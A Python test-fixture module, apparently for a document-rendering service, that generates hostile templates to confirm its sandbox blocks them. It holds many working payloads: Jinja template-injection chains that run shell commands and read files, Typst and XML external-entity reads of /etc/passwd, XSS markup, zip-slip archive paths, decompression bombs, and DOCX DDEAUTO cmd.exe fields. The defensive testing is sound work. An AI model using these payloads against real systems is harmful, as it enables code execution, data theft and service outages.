"""Templates that want what they must not have: written by hand, each carried in every format."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from xml.sax.saxutils import escape

from callrouter.forming.press import shipped

SECRET = "canary-7f3a91-secret"


@dataclass(frozen=True, slots=True)
class Canary:
    """What an escape would touch: a file to read, a folder to write to, a port that listens."""

    file: Path
    folder: Path
    port: int


@dataclass(frozen=True, slots=True)
class Attack:
    """`refused`: rendering it at all would be an escape, as what it makes acts when it is opened."""

    name: str
    format: str
    body: bytes
    text: bytes = b""
    refused: bool = False


def all_attacks(canary: Canary) -> list[Attack]:
    return [
        *_jinja(canary),
        *_typst(canary),
        *_html(canary),
        *_packages(canary),
        *_docx(canary),
        *_odt(canary),
    ]


# Jinja, carried by HTML, text, DOCX and ODT


def jinja_payloads(canary: Canary) -> list[str]:
    file, folder, port = canary.file, canary.folder, canary.port
    run = f"cat {file}; touch {folder}/pwned; curl http://127.0.0.1:{port}/"
    ways_to_os = [
        "cycler.__init__.__globals__.os",
        "joiner.__init__.__globals__.os",
        "namespace.__init__.__globals__.os",
        "lipsum.__globals__.os",
        "lipsum.__globals__['os']",
        "lipsum['__globals__']['os']",
        "self.__init__.__globals__.__builtins__.__import__('os')",
        "self._TemplateReference__context.cycler.__init__.__globals__.os",
        "range.__globals__.__builtins__.__import__('os')",
        "range.__func__.__globals__['os']",
        "number.__class__.__mro__[1].__subclasses__()[100].__init__.__globals__['os']",
        "''['__cla'~'ss__']['__mro__'][1]['__subclasses__']()[132]",
        "(number|attr('__class__')).__base__",
        "number|attr('__cla'~'ss__')|attr('__mro__')|last",
        "rows.__class__.__base__.__subclasses__()",
        "entity.__class__.__init__.__globals__",
        "[]['__class__']['__base__']['__subclasses__']()",
        "{}.__class__.__bases__[0].__subclasses__()",
        "().__class__.__base__.__subclasses__()",
        "(1).__class__.__base__.__subclasses__()",
        "request.application.__globals__.__builtins__.__import__('os')",
        "config.__class__.__init__.__globals__['os']",
        "get_flashed_messages.__globals__.os",
        "url_for.__globals__.os",
        "dict.__base__.__subclasses__()",
        "g.pop.__globals__.os",
    ]
    spelled = [f"{{{{ {way}.popen('{run}').read() }}}}" for way in ways_to_os]
    loops = [
        "{% for a in ''.__class__.__mro__ %}{{ a }}{% endfor %}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c.__name__ }}{% endfor %}",
        f"{{% set o = cycler.__init__.__globals__.os %}}{{{{ o.system('touch {folder}/pwned') }}}}",
        "{% macro m() %}{{ varargs }}{{ kwargs }}{% endmacro %}{{ m.__globals__ }}",
        "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
        "{% macro m() %}{% endmacro %}{{ m._environment.__class__ }}",
        "{% call(x) number() %}{% endcall %}",
        "{{ caller.__globals__ }}",
        "{% for r in range(3) %}{{ loop.__class__.__mro__ }}{% endfor %}",
        "{% for r in range(3) %}{{ loop._iterator.__class__ }}{% endfor %}",
        "{% for r in range(3) %}{{ loop.cycle.__func__.__globals__ }}{% endfor %}",
        "{{ self }}{{ self.__dict__ }}",
        "{{ self._TemplateReference__context.environment.loader }}",
        "{{ self._TemplateReference__context.__class__ }}",
    ]
    files = [
        f"{{% include '{file}' %}}",
        f"{{% include ['{file}'] ignore missing %}}{{{{ 1/0 }}}}",
        f"{{% import '{file}' as x %}}{{{{ x }}}}",
        f"{{% from '{file}' import x %}}",
        f"{{% extends '{file}' %}}",
        f"{{{{ open('{file}').read() }}}}",
        f"{{{{ __import__('pathlib').Path('{file}').read_text() }}}}",
        f"{{{{ lipsum.__globals__.__builtins__.open('{file}').read() }}}}",
        f"{{{{ cycler.__init__.__globals__.__builtins__.open('{folder}/pwned', 'w').write('x') }}}}",
        "{{ lipsum.__globals__.os.environ }}",
        "{{ environ }}{{ environment }}",
    ]
    formats = [
        "{{ '{0.__class__.__init__.__globals__}'.format(number) }}",
        "{{ '{x.__class__}'.format_map({'x': number}) }}",
        "{{ ('{0.__class__.__mro__}'|e).format(number) }}",
        "{{ '%(a)s'|format(a=number.__class__) }}",
        "{{ '%s' % number.__class__ }}",
        "{{ number.format.__globals__ }}",
        "{{ number.encode('utf-8').__class__ }}",
        "{{ number.translate.__self__.__class__ }}",
        "{{ rows|map(attribute='__class__')|list }}",
        "{{ rows|selectattr('__class__')|list }}",
        "{{ rows|groupby('__class__') }}",
        "{{ rows|sum(attribute='__class__') }}",
        "{{ rows|sort(attribute='__class__.__mro__') }}",
        "{{ rows|join(attribute='__class__') }}",
        "{{ rows|first(attribute='x') }}",
        "{{ rows|tojson }}{{ rows|pprint }}",
        "{{ '<script>'|safe }}",
        "{% autoescape false %}{{ '<script>' }}{% endautoescape %}",
        "{{ '<b>'|xmlattr }}{{ {'onload': 1}|xmlattr }}",
        "{{ number is filter }}{{ number is test }}{{ rows is callable }}",
        "{% set number.x = 1 %}",
        "{% set ns = namespace(a=1) %}{% set ns.__class__ = 1 %}",
        "{{ rows.append(1) }}{{ rows.clear() }}{{ entity.update({}) }}",
        "{{ entity.pop('name') }}{{ entity.setdefault('x', 1) }}",
        "{{ debug() }}{% debug %}",
        "{% do rows.append(1) %}",
        "{% trans %}x{% endtrans %}",
        "{{ _('x') }}{{ gettext('x') }}",
        "{{ undefined_name }}{{ undefined_name.__class__ }}",
        "{{ none.__class__ }}{{ true.__class__.__base__ }}",
    ]
    costs = [
        (
            "{% for a in range(1000) %}{% for b in range(1000) %}{% for c in range(1000) %}"
            "{% endfor %}{% endfor %}{% endfor %}"
        ),
        (
            "{% for a in range(1000) %}{% for b in range(1000) %}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
            "{% endfor %}{% endfor %}"
        ),
        "{{ range(10**9)|list }}",
        "{{ range(999999999)|list }}",
        "{{ range(0, 10000000, 1)|length }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 'a'|center(1000000000) }}{{ 'a'.center(1000000000) }}",
        "{{ 'a'.ljust(1000000000) }}{{ 'a'.zfill(1000000000) }}",
        "{{ '%0999999999d' % 1 }}",
        "{{ '%0999999999d'|format(1) }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ 99999999999999999999 * 99999999999999999999 }}",
        "{{ 1e308 * 1e308 }}{{ 1 / 0 }}{{ 1 % 0 }}",
        "{{ [0] * 1000000000 }}",
        "{% set a = 'x' * 100 %}{{ a }}",
        "".join(
            "{% set a = 'xxxxxxxxxx' %}" if n == 0 else "{% set a = a ~ a %}" for n in range(40)
        )
        + "{{ a }}",
        "{{ lipsum(n=100000) }}",
        "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        "{% macro f(n) %}{{ f(n) }}{{ f(n) }}{% endmacro %}{{ f(1) }}",
        "{% for r in range(9) recursive %}{{ loop(range(9)) }}{% endfor %}",
        "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
        "{{ " + "[" * 300 + "]" * 300 + " }}",
        "{{ " + "not " * 20000 + "1 }}",
        "{% if 1 %}" * 3000 + "{% endif %}" * 3000,
        "{{ 'aaaaaaaaaaaaaaaaaaaaaaaaaaaa'|replace('a', 'b' ~ number)|length }}",
        "{% set b = 'aaaaaaaaaa' %}"
        + "{% set b = b|replace('a', 'aaaaaaaaaa') %}" * 12
        + "{{ b }}",
        "{{ '1'|int(base=36) }}{{ ('9' ~ '9')|int }}",
        "{{ number|truncate(999999999)|wordcount }}",
        "{% filter upper %}" * 400 + "x" + "{% endfilter %}" * 400,
        "{% block a %}{{ self.a() }}{% endblock %}",
        "{% for x in rows if x.name == 1 / 0 %}{% endfor %}",
        "{{",
        "{% if",
        "{% endfor %}",
        "{# never ends",
        "{% raw %}",
        "{{ '\\x00'|e }}{{ '\\ud800' }}",
        "{{ 'a' if }}",
    ]
    return [*spelled, *loops, *files, *formats, *costs]


def _jinja(canary: Canary) -> Iterator[Attack]:
    for n, payload in enumerate(jinja_payloads(canary)):
        yield Attack(f"jinja {n} in html", "html", f"<title>x</title><p>{payload}</p>".encode())
        yield Attack(f"jinja {n} in text", "html", b"<title>x</title>", payload.encode())
        yield Attack(f"jinja {n} in docx", "docx", docx_with(escape(payload)))
        yield Attack(f"jinja {n} in odt", "odt", odt_with(escape(payload)))


# typst


def typst_payloads(canary: Canary) -> list[str]:
    file, port = canary.file, canary.port
    up = "/".join([".."] * 12)
    paths = [f"{file}", f"{up}{file}", f"/{up}{file}", f"./{up}{file}", f"file://{file}"]
    paths += [
        "/etc/passwd",
        "/proc/self/environ",
        "/proc/1/cmdline",
        "/dev/zero",
        "/dev/stdin",
        "~",
    ]
    readers = [
        "read",
        "image",
        "json",
        "toml",
        "yaml",
        "csv",
        "xml",
        "cbor",
        "plugin",
        "bibliography",
    ]
    reads = [f'#{reader}("{path}")' for path in paths[:6] for reader in readers]
    reads += [f'#read("{path}", encoding: none)' for path in paths]
    imports = [
        '#import "@preview/example:0.1.0": *',
        '#import "@local/x:1.0.0": *',
        '#include "@preview/cetz:0.2.0"',
        '#import("@" + "preview/example:0.1.0")',
        '#let p = "@preview/tablex:0.0.8"\n#import p: *',
        f'#import "{file}": *',
        f'#include "{up}{file}"',
        f'#image("http://127.0.0.1:{port}/a.png")',
        f'#read("http://127.0.0.1:{port}/")',
        (
            f"#image(bytes(\"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"
            f"<image href='file://{file}' width='9' height='9'/></svg>\"), format: \"svg\")"
        ),
        (
            f"#image(bytes(\"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"
            f"<image href='http://127.0.0.1:{port}/a.png' width='9' height='9'/></svg>\"))"
        ),
        (
            f"#image(bytes(\"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{file}'>]><svg xmlns='http://"
            "www.w3.org/2000/svg' width='9' height='9'><text>&x;</text></svg>\"))"
        ),
        f"#xml(bytes(\"<!DOCTYPE a [<!ENTITY x SYSTEM 'file://{file}'>]><a>&x;</a>\"))",
        "#plugin(bytes((0, 97, 115, 109, 1, 0, 0, 0)))",
        '#eval("read(\\"/etc/passwd\\")")',
        f'#eval("#read(\\"{file}\\")", mode: "markup")',
        '#sys.inputs.at("HOME")',
        "#panic(sys.inputs)",
        f'#set document(author: read("{file}"))',
        f'#pdf.embed("{file}")',
        f'#pdf.attach("{file}")',
        '#set text(font: "/etc/passwd")\nx',
        '#raw(read("/etc/hostname"), syntaxes: "/etc/passwd")',
    ]
    costs = [
        "#while true {}",
        "#let x = 0\n#while x < 10 { x -= 1 }",
        "#for a in range(100000) { for b in range(100000) { } }",
        "#let f(n) = f(n + 1)\n#f(0)",
        "#let f(n) = { f(n + 1); f(n + 2) }\n#f(0)",
        "#let f(n) = if n > 0 { f(n - 1) + f(n - 1) } else { 1 }\n#f(60)",
        '#("a" * 10000000000)',
        '#("a" * 500000000)',
        "#((0,) * 2000000000)",
        "#range(100000000000)",
        "#let a = range(40000000).map(x => str(x)).join()\n#a",
        "#for i in range(1000000) [#pagebreak()]",
        "#for i in range(3000000) [= x]",
        "#block(width: 1000000cm, height: 1000000cm, fill: red)",
        "#table(columns: 100000, ..range(1000000).map(str))",
        '#let c = counter("x")\n#context { while c.get().first() < 10 { } }',
        '#state("x").update(x => { while true { } })\n#context state("x").final()',
        '#show regex(".*"): it => it + it\nxxxxxxxx',
        '#show "a": "aa"\na',
        "#show heading: it => heading(it.body)\n= x",
        '#("a" * 30000).match(regex("(a*)*b"))',
        '#("a" * 100000).matches(regex("a{1,1000}{1,1000}"))',
        "#" + "(" * 3000 + "1" + ")" * 3000,
        "#" + "[" * 20000,
        "$" + "x^(" * 3000 + "$",
        '#let x = json(bytes("' + "[" * 5000 + '"))',
        "#calc.pow(10, 100000)",
        "#calc.fact(100000)",
        "#let b = bytes(range(200).map(x => 255) * 3000000)",
        (
            "#image(bytes((137, 80, 78, 71, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82, 127, 255, 255,"
            ' 255, 127, 255, 255, 255, 8, 6, 0, 0, 0, 0, 0, 0, 0)), format: "png")'
        ),
        (
            "#image(bytes(\"<svg xmlns='http://www.w3.org/2000/svg' width='99999999' height='99999999'>"
            "<rect width='99999999' height='99999999' filter='blur(9999)'/></svg>\"))"
        ),
        "#set page(width: auto, height: auto)\n#layout(s => box(width: s.width * 2)[x])",
        "#query(<x>) #assert(false)",
        "#rotate(1e308deg)[x] #move(dx: 1e300pt)[x]",
        "#lorem(100000000)",
        '#symbol("a") #unknown.thing()',
        '#datetime.today().display("[year]" * 1000000)',
        "#polygon(..range(3000000).map(x => (x * 1pt, x * 1pt)))",
        "#gradient.linear(..range(2000000).map(x => red))",
        "#let d = (:)\n#for i in range(30000000) { d.insert(str(i), i) }",
        "\x00\x01\x02",
        "#",
    ]
    return [*reads, *imports, *costs]


def _typst(canary: Canary) -> Iterator[Attack]:
    for n, payload in enumerate(typst_payloads(canary)):
        yield Attack(f"typst {n}", "typ", payload.encode())
    yield Attack("typst that is no text", "typ", b"\xff\xfe\x00")


# HTML that would act in somebody's mail


def _html(canary: Canary) -> Iterator[Attack]:
    port, file = canary.port, canary.file
    bodies = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//x></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<iframe src='https://x.example'></iframe>",
        "<object data='https://x.example'></object>",
        "<embed src='https://x.example'>",
        "<form action='https://x.example'><input></form>",
        "<button formaction='https://x.example'>x</button>",
        "<base href='https://x.example'>",
        "<meta http-equiv=refresh content='0;url=https://x.example'>",
        f"<link rel=stylesheet href='http://127.0.0.1:{port}/a.css'>",
        f"<link rel=stylesheet href='file://{file}'>",
        f"<link rel=stylesheet href='{file}'>",
        f"<style>@import 'http://127.0.0.1:{port}/a.css';</style>",
        f"<style>p {{ background: url(http://127.0.0.1:{port}/a.png) }}</style><p>x",
        f"<p style='background: url(http://127.0.0.1:{port}/a)'>x</p>",
        f"<p style='background: URL (file://{file})'>x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\nscript:alert(1)'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<a href='vbscript:x'>x</a>",
        f"<a href='file://{file}'>x</a>",
        "<a href='{{ customer.name }}'>x</a>",
        f"<img src='{file}'>",
        "<img srcset='/etc/passwd 1x'>",
        "<video poster='file:///etc/passwd'></video>",
        "<table background='file:///etc/passwd'></table>",
        "<p onclick = 'x'>x</p>",
        "<p/onclick=x>x</p>",
        "<template><script>x</script></template>",
        "<style>p { width: expression(alert(1)) }</style>",
        "<select><option>x</select>",
        "<audio src=file:///etc/passwd>",
        "<frameset><frame src=x></frameset>",
    ]
    for n, body in enumerate(bodies):
        page = f"<title>x</title>{body}".encode()
        yield Attack(f"html {n}", "html", page, refused=True)
    yield Attack("html without a subject", "html", b"<p>x</p>", refused=True)
    yield Attack("html that is no text", "html", b"\xff\xff", refused=True)
    yield Attack("html with deep elements", "html", b"<title>x</title>" + b"<div>" * 100_000)
    yield Attack(
        "html with many rules",
        "html",
        b"<title>x</title><style>"
        + b"p p p p p p > * { color: red }" * 20_000
        + b"</style>"
        + b"<p>" * 20_000,
    )


# Archives


def docx_with(text: str, **more: bytes | None) -> bytes:
    """Our DOCX with a paragraph before all others; `more`: parts by name, `__` for `/`, none: gone."""
    parts = parts_of(shipped("offer", "docx", "ru").body)
    document = parts["word/document.xml"].decode()
    paragraph = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    parts["word/document.xml"] = document.replace("<w:body>", f"<w:body>{paragraph}", 1).encode()
    return packed(parts, {name.replace("__", "/"): body for name, body in more.items()})


def odt_with(text: str, **more: bytes | None) -> bytes:
    """Our ODT with a paragraph before all others."""
    parts = parts_of(shipped("offer", "odt", "ru").body)
    content = parts["content.xml"].decode()
    paragraph = f"<text:p>{text}</text:p>"
    parts["content.xml"] = content.replace("<office:text>", f"<office:text>{paragraph}", 1).encode()
    return packed(parts, {name.replace("__", "/"): body for name, body in more.items()})


def parts_of(body: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(body)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes], more: Mapping[str, bytes | None]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in {**parts, **more}.items():
            if body is not None:
                archive.writestr(name, body)
    return out.getvalue()


def _packages(canary: Canary) -> Iterator[Attack]:
    makers = {"docx": (docx_with, "word/document.xml"), "odt": (odt_with, "content.xml")}
    for fmt, (make, main) in makers.items():
        whole = make("x")
        parts = parts_of(whole)
        names = ["../../../tmp/pwned", "/tmp/pwned", "..\\..\\pwned", "c:/x", "a" * 300]
        names += [f"{canary.folder}/pwned", "word/../../x", "./..", "n\u00e4me\u202e"]
        for name in names:
            evil = packed(parts, {name: b"x"})
            yield Attack(f"{fmt} with a part {ascii(name)[:30]}", fmt, evil, refused=True)
        bombs = {
            "a bomb": b"\0" * 60_000_000,
            "an XML bomb": b"<a>" + b" " * 30_000_000 + b"</a>",
        }
        for what, bomb in bombs.items():
            yield Attack(f"{fmt} with {what}", fmt, packed(parts, {main: bomb}), refused=True)
        yield Attack(
            f"{fmt} with many parts",
            fmt,
            packed(parts, {f"customXml/{n}.xml": b"<a/>" for n in range(1000)}),
            refused=True,
        )
        yield Attack(
            f"{fmt} with many large parts",
            fmt,
            packed(parts, {f"customXml/{n}.xml": b"<a/>" + b" " * 7_000_000 for n in range(9)}),
            refused=True,
        )
        xml = parts[main].decode()
        head, _, rest = xml.partition("?>")
        kinds = {
            "an external entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{canary.file}">]>',
            "a remote entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:{canary.port}/">]>',
            "a parameter entity": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "file://{canary.file}"> %x;]>',
            "a remote DTD": f'<!DOCTYPE a SYSTEM "http://127.0.0.1:{canary.port}/a.dtd">',
            "laughs": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "'
            + "&a;" * 100
            + '"><!ENTITY c "'
            + "&b;" * 100
            + '"><!ENTITY d "'
            + "&c;" * 100
            + '"><!ENTITY x "'
            + "&d;" * 100
            + '">]>',
        }
        for what, declared in kinds.items():
            evil_xml = f"{head}?>{declared}{rest}".replace("x</", "&x;</", 1)
            for encoding in ("utf-8", "utf-16"):
                said = evil_xml.replace("UTF-8", encoding.upper(), 1).encode(encoding)
                yield Attack(
                    f"{fmt} with {what} in {encoding}",
                    fmt,
                    packed(parts, {main: said}),
                    refused=True,
                )
        deep = f"{head}?>" + "<a>" * 200_000 + "</a>" * 200_000
        yield Attack(
            f"{fmt} with deep XML", fmt, packed(parts, {main: deep.encode()}), refused=True
        )
        broken = f"{head}?>{rest[: len(rest) // 2]}"
        yield Attack(f"{fmt} torn", fmt, packed(parts, {main: broken.encode()}), refused=True)
        yield Attack(f"{fmt} cut", fmt, whole[: len(whole) // 2], refused=True)
        yield Attack(f"{fmt} without its main part", fmt, packed(parts, {main: None}), refused=True)
        yield Attack(f"{fmt} that is nothing", fmt, b"", refused=True)
        yield Attack(f"{fmt} that is a text", fmt, b"hello" * 100, refused=True)
        twice = BytesIO(whole)
        with zipfile.ZipFile(twice, "a") as archive:
            archive.writestr("again.xml", b"<a/>")
            info = zipfile.ZipInfo("link")
            info.external_attr = 0xA1ED << 16
            archive.writestr(info, str(canary.file))
        yield Attack(f"{fmt} with a link", fmt, twice.getvalue(), refused=True)
        injected = make("{{ '<evil/>' }}")
        yield Attack(f"{fmt} with XML in a text", fmt, injected)


def _docx(canary: Canary) -> Iterator[Attack]:
    parts = parts_of(shipped("offer", "docx", "ru").body)
    rels = parts["word/_rels/document.xml.rels"].decode()
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    targets = [
        ("attachedTemplate", f"http://127.0.0.1:{canary.port}/a.dotm"),
        ("image", f"http://127.0.0.1:{canary.port}/a.png"),
        ("image", f"file://{canary.file}"),
        ("oleObject", f"http://127.0.0.1:{canary.port}/a"),
        ("frame", f"http://127.0.0.1:{canary.port}/a"),
        ("subDocument", "file:///etc/passwd"),
        ("aFChunk", "http://x.example/a.html"),
        ("hyperlink", "file:///etc/passwd"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "\\\\x.example\\share"),
        ("settings", "http://x.example"),
        ("control", "http://x.example"),
    ]
    for n, (kind, target) in enumerate(targets):
        relation = (
            f'<Relationship Id="evil{n}" Type="{kinds}{kind}" Target="{target}" '
            'TargetMode="External"/></Relationships>'
        )
        evil = rels.replace("</Relationships>", relation).encode()
        yield Attack(
            f"docx related to {kind} {n}",
            "docx",
            packed(parts, {"word/_rels/document.xml.rels": evil}),
            refused=True,
        )
    for name in (
        "word/vbaProject.bin",
        "word/activeX/a.xml",
        "word/embeddings/a.bin",
        "word/x.bin",
    ):
        yield Attack(f"docx with {name}", "docx", packed(parts, {name: b"<a/>"}), refused=True)
    types = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml"
    )
    yield Attack(
        "docx with macros", "docx", packed(parts, {"[Content_Types].xml": types}), refused=True
    )
    for command in (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        "DDE x y",
        f'INCLUDETEXT "file://{canary.file}"',
        f'INCLUDEPICTURE "http://127.0.0.1:{canary.port}/a.png"',
        "{{ 'DDE' ~ 'AUTO' }} x",
        "MACROBUTTON x y",
        "D</w:instrText><w:instrText>DEAUTO x",
    ):
        field = f"</w:t></w:r><w:r><w:instrText>{command}</w:instrText></w:r><w:r><w:t>"
        yield Attack(f"docx with a field {command[:12]}", "docx", docx_with(field), refused=True)
    simple = '</w:t></w:r><w:fldSimple w:instr="DDEAUTO x"/><w:r><w:t>'
    yield Attack("docx with a simple field", "docx", docx_with(simple), refused=True)
    chunk = "</w:t></w:r></w:p><w:altChunk/><w:p><w:r><w:t>"
    yield Attack("docx with a chunk", "docx", docx_with(chunk), refused=True)


def _odt(canary: Canary) -> Iterator[Attack]:
    frame = "<draw:frame>{}</draw:frame>"
    bodies = [
        frame.format(f'<draw:image xlink:href="http://127.0.0.1:{canary.port}/a.png"/>'),
        frame.format(f'<draw:image xlink:href="file://{canary.file}"/>'),
        frame.format(f'<draw:image xlink:href="../../..{canary.file}"/>'),
        frame.format('<draw:image xlink:href="Pictures/../../x"/>'),
        frame.format(f"<draw:image xlink:href=\"{{{{ 'file:' ~ '//{canary.file}' }}}}\"/>"),
        frame.format('<draw:object xlink:href="./Object 1"/>'),
        frame.format('<draw:object-ole xlink:href="./x"/>'),
        frame.format('<draw:plugin xlink:href="http://x.example"/>'),
        frame.format('<draw:applet xlink:href="http://x.example"/>'),
        frame.format('<draw:floating-frame xlink:href="http://x.example"/>'),
        '<text:a xlink:href="javascript:alert(1)">x</text:a>',
        '<text:a xlink:href="file:///etc/passwd">x</text:a>',
        '<text:a xlink:href="vnd.sun.star.script:x">x</text:a>',
        '<text:a xlink:href="macro:///x">x</text:a>',
        '<text:execute-macro text:name="x"/>',
        "<text:script>x</text:script>",
        '<text:section text:name="x"><text:section-source xlink:href="/etc/passwd"/></text:section>',
        (
            '<office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
            '<script:event-listener xlink:href="vnd.sun.star.script:x"/></office:event-listeners>'
        ),
        '<text:dde-connection text:connection-name="x"/>',
        '<office:dde-source office:dde-application="soffice"/>',
        '<table:cell-range-source xlink:href="http://x.example"/>',
        "<office:forms/>",
        "<office:scripts/>",
        '<text:database-display text:table-name="x"/>',
    ]
    for n, body in enumerate(bodies):
        yield Attack(f"odt acting {n}", "odt", odt_with(body), refused=True)
    for name in (
        "Basic/Standard/Module1.xml",
        "Scripts/python/x.py",
        "Object 1/content.xml",
        "Dialogs/x.xml",
        "META-INF/macrosignatures.xml",
        "x.sh",
    ):
        evil = packed(parts_of(odt_with("x")), {name: b"<a/>"})
        yield Attack(f"odt with {name}", "odt", evil, refused=True)
    spreadsheet = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}
    yield Attack(
        "odt of another kind", "odt", packed(parts_of(odt_with("x")), spreadsheet), refused=True
    )
